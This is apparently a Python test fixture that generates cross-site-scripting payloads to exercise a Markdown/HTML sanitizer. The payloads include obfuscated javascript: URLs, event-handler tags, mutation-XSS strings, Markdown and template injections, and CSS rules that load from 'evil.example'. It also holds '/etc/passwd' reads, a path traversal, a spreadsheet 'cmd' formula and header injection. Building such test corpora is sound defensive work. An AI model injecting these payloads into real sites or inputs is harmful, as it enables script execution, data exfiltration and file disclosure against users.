"""Texts that try to become a program, or to load something, in a page that shows them: HTML, addresses, Markdown, templates, style sheets.

Each calls `alert(1)`, sets `window.__x`, or names a host that is not the site's, which is what check.mjs watches. They follow the families that the
tests of sanitizers and the cheat sheet of OWASP know.
"""

from itertools import product
from urllib.parse import quote

# What begins an address that runs, as browsers and parsers of Markdown have been known to read it.
SCHEMES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript:alert&lpar;1&rpar;", "javascript&colon;alert(1)", "javascript&#58;alert(1)",
    "javascript&#x3A;alert(1)", "javascript&#0000058alert(1)", "&#106;avascript:alert(1)", "&#x6A&#x61&#x76&#x61script:alert(1)",
    "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "java&#9;script:alert(1)", "java&#10;script:alert(1)", "java&#13;script:alert(1)",
    "java\tscript:alert(1)", "&#1;javascript:alert(1)", "&#x1F;javascript:alert(1)", "\x01javascript:alert(1)", "\u00a0javascript:alert(1)",
    "\u2028javascript:alert(1)", "\u200bjavascript:alert(1)", "\ufeffjavascript:alert(1)", "javascript\u200b:alert(1)", "java\u00adscript:alert(1)",
    "ｊavascript:alert(1)", "javaſcript:alert(1)", "javascript：alert(1)", "%6Aavascript:alert(1)", "javascript%3Aalert(1)", "java%0Ascript:alert(1)",
    "javascript://acme.example/%0Aalert(1)", "javascript://%E2%80%A9alert(1)", "javascript:%61lert(1)", "javascript:\\u0061lert(1)",
    "javascript:window.__x=1", "javascript:void(alert`1`)", "javascript:'<script>alert(1)</script>'", "\\javascript:alert(1)", "./javascript:alert(1)",
    "vbscript:msgbox(1)", "VBSCRIPT:alert(1)", "livescript:alert(1)", "mocha:alert(1)", "feed:javascript:alert(1)", "view-source:javascript:alert(1)",
    "jar:javascript:alert(1)!/x", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1) xmlns='http://www.w3.org/2000/svg'>", "data:;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C/script%3E", "data:application/xhtml+xml,<x/>", "blob:null/alert(1)", "about:blank#alert(1)",
    "filesystem:http://acme.example/x", "file:///etc/passwd", "intent://acme.example#Intent;scheme=javascript;end", "ms-its:mhtml:x", "x:javascript:alert(1)",
    "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example", "/\t/evil.example", "http:evil.example", "https:javascript:alert(1)",
    'https://a.example/"onmouseover="alert(1)', "https://a.example/'onmouseover='alert(1)", "https://a.example/><script>alert(1)</script>",
]  # fmt: skip

# Where Markdown takes an address.
PLACES = ["[a]({})", "[a](<{}>)", "![a]({})", "<{}>", "[b]: {}\n\n[b]", '[a](/ "{}")', "[![a]({})](/)", "{}"]

# An element with a handler that needs no visitor, or one whom a page easily gets.
HANDLED = [
    ("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("body", "onpageshow"), ("body", "onhashchange"), ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"), ("button autofocus", "onfocus"), ("a tabindex=1 autofocus", "onfocus"),
    ("details open", "ontoggle"), ("video src=x", "onerror"), ("audio src=x", "onerror"), ("video><source", "onerror"), ("video autoplay", "onloadstart"),
    ("iframe", "onload"), ("frameset", "onload"), ("object data=x", "onerror"), ("embed src=x", "onload"), ("link rel=stylesheet href=x", "onerror"),
    ("style", "onload"), ("script src=x", "onerror"), ("marquee", "onstart"), ("marquee loop=1 width=0", "onfinish"), ("keygen autofocus", "onfocus"),
    ("isindex type=image src=x", "onerror"), ("image src=x", "onerror"), ("image/src/", "onerror"), ("table background=x", "onerror"),
    ("div style=animation-name:x", "onanimationstart"), ("div style=transition:1s", "ontransitionend"), ("div contenteditable", "onbeforeinput"),
    ("p", "onmouseover"), ("a href=/", "onclick"), ("a", "onpointerenter"), ("div", "onwheel"), ("div", "oncopy"), ("div hidden=until-found", "onbeforematch"),
    ("button popovertarget=x>y</button><div popover id=x", "onbeforetoggle"), ("dialog open", "onclose"), ("svg><animate", "onbegin"),
    ("svg><set attributeName=x", "onend"), ("svg><a xlink:href=x", "onfocusin"), ("math", "onclick"), ("x", "oncontentvisibilityautostatechange"),
    ("xss contenteditable autofocus", "onfocus"), ("x", "onsecuritypolicyviolation"), ("x", "onscrollend"), ("form", "onformdata"), ("slot", "onslotchange"),
]  # fmt: skip
CALLS = ["{}=alert(1)", "{}='alert(1)'", "/{}=alert`1`//", "\x0c{}&#61;alert(1)", "{}=window.__x=1 "]

ELEMENTS = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script/src=//evil.example/x.js></script>", "<script\n>alert(1)</script\n>",
    "<script src=data:,alert(1)></script>", "<script type=module>alert(1)</script>", "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</script>",
    "<script>alert(1)", "<script//a>alert(1)</script>", "<script\x00>alert(1)</script>", "<script x='>' src=//evil.example></script>",
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>", "</style><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
    "`><script>alert(1)</script>", "\" autofocus onfocus=alert(1) x=\"", "' onmouseover='alert(1)", "\" style=\"background:url(//evil.example)",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>parent.alert(1)</script>'>", "<iframe src=//evil.example>", "<frame src=//evil.example>",
    "<object data=javascript:alert(1)>", "<object data=//evil.example/x.swf>", "<embed src=javascript:alert(1)>", "<applet code=x archive=//evil.example>",
    "<base href=//evil.example/>", "<base target='x'>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<portal src=//evil.example>",
    "<meta http-equiv=refresh content='0;//evil.example'>", "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<meta http-equiv=set-cookie content=a=b>", "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<link rel=import href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=preconnect href=//evil.example>", "<link rel=dns-prefetch href=//evil.example>",
    "<style>@import '//evil.example/x.css';</style>", "<style>*{background:url(//evil.example)}</style>", "<p style=background:url(javascript:alert(1))>",
    "<p style=\"width:expression(alert(1))\">", "<p style='-moz-binding:url(//evil.example/x#y)'>", "<p style=behavior:url(#default#time2)>",
    "<form action=javascript:alert(1)><button>a</button></form>", "<form action=//evil.example><input name=a></form>", "<button form=x formaction=javascript:alert(1)>a",
    "<input type=image src=x formaction=javascript:alert(1)>", "<isindex action=javascript:alert(1)>", "<a href=javascript:alert(1)>a</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">a</a>", "<a href=' &#14; javascript:alert(1)'>a</a>", "<a href=/ ping=//evil.example>a</a>", "<area href=javascript:alert(1)>",
    "<a xlink:href=javascript:alert(1)>a</a>", "<img src=javascript:alert(1)>", "<img dynsrc=javascript:alert(1)>", "<img lowsrc=javascript:alert(1)>",
    "<img srcset='//evil.example/x 1x'>", "<img src=//evil.example/x>", "<img longdesc=javascript:alert(1)>", "<img usemap=#x><map name=x><area href=javascript:alert(1)></map>",
    "<picture><source srcset=//evil.example/x><img src=x></picture>", "<video poster=//evil.example/x>", "<video><track src=//evil.example/x default></video>",
    "<audio src=//evil.example/x autoplay>", "<bgsound src=javascript:alert(1)>", "<input type=image src=//evil.example/x>", "<td background=//evil.example/x>",
    "<br size=\"&{alert(1)}\">", "<xml id=x><x><![CDATA[<img src=x onerror=alert(1)>]]></x></xml>", "<?xml-stylesheet href='javascript:alert(1)'?>", "<?php echo 1 ?>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<!-- --!><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->", "<!---><img src=x onerror=alert(1)>-->", "<![CDATA[<script>alert(1)</script>]]>", "<!DOCTYPE x [<!ENTITY y 'z'>]>&y;",
    "<! foo=\"><script>alert(1)</script>\">", "</ foo=\"><script>alert(1)</script>\">", "<? foo=\"><script>alert(1)</script>\">", "<%00script>alert(1)</script>",
    "<a foo=\"x'x\" bar='x\"x' x=`><script>alert(1)</script>`>", "<img \"\"\"><script>alert(1)</script>\">", "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<div id=forms><input name=action><input name=id>", "<a id=document><a id=document name=body>", "<img name=getElementById>", "<form id=_q><input name=children></form>",
    "<input name=attributes><input name=nodeName>", "<p id=_main>x</p><p id=_options>y</p>", "<p class='shown thanks'>x</p>", "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><slot onslotchange=alert(1)></slot></template>", "<noembed><script>alert(1)</script></noembed>", "<plaintext>", "<xmp><img src=x></xmp>",
]  # fmt: skip

# What is harmless until it is read again, after it was written.
MUTATING = [
    "<svg><script>alert(1)</script></svg>", "<svg><script xlink:href=data:,alert(1) /></svg>", "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<svg><style><img title='</style><img src=x onerror=alert(1)>'></style></svg>", "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.alert(1)</script>'></foreignObject></svg>", "<svg><a><animate attributeName=href values=javascript:alert(1) />a</a></svg>",
    "<svg><a><set attributeName=href to=javascript:alert(1) /><text>a</text></a></svg>", "<svg><image href=//evil.example/x></svg>", "<svg><feImage href=//evil.example/x /></svg>",
    "<svg><desc><noscript><img title='</noscript><img src=x onerror=alert(1)>'></desc></svg>", "<svg><title><style><img src='</style><img src=x onerror=alert(1)>'></title></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>", "<math href=javascript:alert(1)>a</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)></style></mglyph></form>", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>a",
    "<math><annotation-xml encoding='text/html'><style><img title='</style><img src=x onerror=alert(1)>'></style></annotation-xml></math>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>", "<math><!--<p title='--><img src=x onerror=alert(1)>'>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noscript><!--</noscript><img src=x onerror=alert(1)>-->", "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>", "<title><a title='</title><img src=x onerror=alert(1)>'>",
    "<style><img title='</style><img src=x onerror=alert(1)>'>", "<iframe><p title='</iframe><img src=x onerror=alert(1)>'>", "<select><style></select><img src=x onerror=alert(1)></style>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=alert(1)>'>", "<table><caption><svg><desc><table></caption><style><a title='</style><img src=x onerror=alert(1)>'>",
    "<a/><p><style><!--</p><img src=x onerror=alert(1)>--></style>", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "<x xmlns:html='http://www.w3.org/1999/xhtml'><html:script>alert(1)</html:script></x>",
    "<img alt='``' onerror=alert(1) src=x>", "<p title='&quot;&gt;&lt;img src=x onerror=alert(1)&gt;'>x</p>", "<p id='</p><img src=x onerror=alert(1)>'>", "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;", "&lt;script&gt;alert(1)&lt;/script&gt;", "\\<script>alert(1)\\</script>", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u2039script\u203aalert(1)", "<\u0131mg src=x onerror=alert(1)>", "<ſcript>alert(1)</ſcript>",
    "\u2028<script>alert(1)</script>\u2029", "\u202e<script>alert(1)</script>", "\ufeff<script>alert(1)</script>", "\u0085<script>alert(1)</script>", "a\u0000<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}", "{{7*7}}{% include '/etc/passwd' %}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "{{{<script>alert(1)</script>}}}", "[[${7*7}]]", "*{alert(1)}",
    "<div ng-app ng-csp><p ng-click=$event.view.alert(1)>", "<div v-html=\"'<img src=x onerror=alert(1)>'\">", "<p x-data x-init=alert(1)>", "<p hx-on:load=alert(1)>", "<p data-instant=//evil.example>",
    "';alert(1);//", "\";alert(1);//", "\\';alert(1);//", "</script><!--<script>alert(1)", "*/alert(1)/*", "\u2028alert(1)\u2028", "-alert(1)-", "\"-alert(1)-\"", "`-alert(1)-`", "]}');alert(1);//",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
    "%0d%0aSet-Cookie:a=b", "\r\nX-Injected: 1", "=cmd|' /C calc'!A0", "../../../../etc/passwd", "%c0%bcscript%c0%bealert(1)%c0%bc/script%c0%be",
]  # fmt: skip

MARKDOWN = [
    "[a](</> onmouseover=alert(1)>)", "[a](/ \"x\\\" onmouseover=alert(1) y=\\\"\")", "[a](/ '&quot; onmouseover=alert(1) &quot;')", "![\" onerror=alert(1) x=\"](x)", "![a](x\"onerror=\"alert(1))",
    "![a](/x '\" onerror=\"alert(1)')", "[a]\n\n[a]: <javascript:alert(1)> 'x'", "[a][B]\n\n[b]: JAVASCRIPT:alert(1)", "[a]: javascript:alert(1)\n[a]: /\n\n[a]", "[\\[a\\](javascript:alert(1))](javascript:alert(1))",
    "[a](javascript:alert\\(1\\))", "[a](java\\\nscript:alert(1))", "[<script>alert(1)</script>](/)", "[a](#\" onclick=alert(1))", "<https://a.example/'onclick=alert(1)>", "<https://a.example/%22onclick=alert(1)>",
    "<script@evil.example>", "<mailto:a@b.example\"onclick=alert(1)>", "https://a.example/\"><script>alert(1)</script>", "www.a.example/<script>alert(1)</script>", "[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
    "[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: a", "[^a]\n\n[^a]: [b](javascript:alert(1))\n\n    <script>alert(1)</script>", "```\"onclick=alert(1)\n<script>alert(1)</script>\n```", "```<script>alert(1)</script>\nx\n```",
    "~~~ html x=\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n~~~", "    </code></pre><script>alert(1)</script>", "``</code><script>alert(1)</script>``", "# <img src=x onerror=alert(1)>",
    "# \" id=\"_main\" onclick=\"alert(1)", "## a {#x onclick=alert(1)}", "## a {onclick=alert(1) .shown style=position:fixed}", "| <script>alert(1)</script> | \" onclick=alert(1) |\n|---|---|\n| [a](javascript:alert(1)) | <img src=x onerror=alert(1)> |",
    "> [!NOTE]\n> <script>alert(1)</script>", "> [!<script>alert(1)</script>]\n> a", "> [!NOTE\" onclick=alert(1)]\n> a", "- [x] <img src=x onerror=alert(1)>", "- [<script>] a", "a  \n<script>alert(1)</script>", "<p>\n\n[a](javascript:alert(1))\n\n</p>",
    "<div>\n<script>\nalert(1)\n</script>\n</div>", "<style>\n*{background:url(//evil.example)}\n</style>", "<!--\n\n--><script>alert(1)</script>", "<pre>\n\n<script>alert(1)</script>\n</pre>", "$$\\href{javascript:alert(1)}{a}$$", "~~<script>alert(1)</script>~~",
    "**<script>**alert(1)**</script>**", "*<img src=x onerror=alert(1)*>", "[a](/articles/1-x?preview=<script>alert(1)</script>)", "[a](/_fd/../../api/v1/agents)", "[[javascript:alert(1)]]", "!!![a](javascript:alert(1))",
    "---\ntitle: <script>alert(1)</script>\n---", ":::note{onclick=alert(1)}\na\n:::", "Term\n: <script>alert(1)</script>", "<details open ontoggle=alert(1)><summary>a</summary>b</details>", "<kbd onclick=alert(1)>a</kbd>",
]  # fmt: skip

# Rules of a style sheet, each of which would load something or end the sheet.
SHEETS = [
    "a{background:url(//evil.example/1)}", "a{background:u\\72l(//evil.example/2)}", "a{background:URL (//evil.example/3)}", "a{background:u/**/rl(//evil.example/4)}", "@import '//evil.example/5';",
    "@\\69mport '//evil.example/6';", "@IMPORT\t\"//evil.example/7\";", "body{background:image-set('//evil.example/8' 1x)}", "body{background:-webkit-image-set('//evil.example/9' 1x)}", "body{background:src('//evil.example/10')}",
    "@font-face{font-family:x;src:url(//evil.example/11)}", "</style><script>alert(1)</script>", "body{background:image('//evil.example/12')}", "body{background:cross-fade('//evil.example/13' 50%,red)}", "@namespace x '//evil.example/14';",
    "p{-moz-binding:u\\000072l(//evil.example/15#x)}", "p{behavior:expression(alert(1))}", "p{content:'\\\n url(//evil.example/16)'}", "@charset 'utf-7';", "p{--x:u\\52 l(//evil.example/17);background:var(--x)}", "<!-- p{color:inherit} -->",
    "body{cursor:image-set('//evil.example/18' 1x),auto}", "@property --y{syntax:'<url>';inherits:true;initial-value:u\\rl(//evil.example/19)}", "p{background:\\75\\72\\6c(//evil.example/20)}", "body{background:imag\\65-set('https://evil.example/21' 1x)}",
]  # fmt: skip


def handlers() -> list[str]:
    """Each element with a handler, written in turn in each way."""
    return [f"<{element} {CALLS[at % len(CALLS)].format(name)}>" for at, (element, name) in enumerate(HANDLED)]


def addressed() -> list[str]:
    """Each address, in each place of Markdown that takes one. Pictures may come from anywhere by HTTPS."""
    allowed = [pair for pair in product(SCHEMES, PLACES) if not (pair[0].startswith("https://") and pair[1].startswith(("![", "[![")))]
    return [place.format(scheme) for scheme, place in allowed]


def vectors() -> list[str]:
    return [*ELEMENTS, *handlers(), *MUTATING, *MARKDOWN, *addressed()]


def fields() -> list[str]:
    """Those for texts of one line, which cannot have control characters."""
    lines = [*ELEMENTS, *handlers(), *MUTATING, *SCHEMES]
    return [line for line in lines if all(letter >= " " and letter not in "\x7f\x85" for letter in line)]


def queries() -> list[str]:
    """Those for `?q=`, each percent-encoded."""
    return [quote(text, safe="") for text in (*ELEMENTS[:4], *ELEMENTS[12:24], *MUTATING[-20:-8])]


def bodies(size: int) -> list[str]:
    """Articles with all of them: each alone, and for those of one line also inside of a heading, a link, an image, a table and a list."""
    every = [text.replace("\x00", "") for text in vectors()]
    return ["\n\n".join(map(surrounded, every[at : at + size])) for at in range(0, len(every), size)]


def surrounded(text: str) -> str:
    if "\n" in text or text in addressed():
        return text
    cell = text.replace("|", "\\|")
    forms = [text, f"## {text}", f"Before {text} after.", f"[{text}](/)", f'![{text}](/x "{text}")', f"| {cell} |\n|---|\n| {cell} |", f"- {text}", f"> {text}"]
    return "\n\n".join(forms)
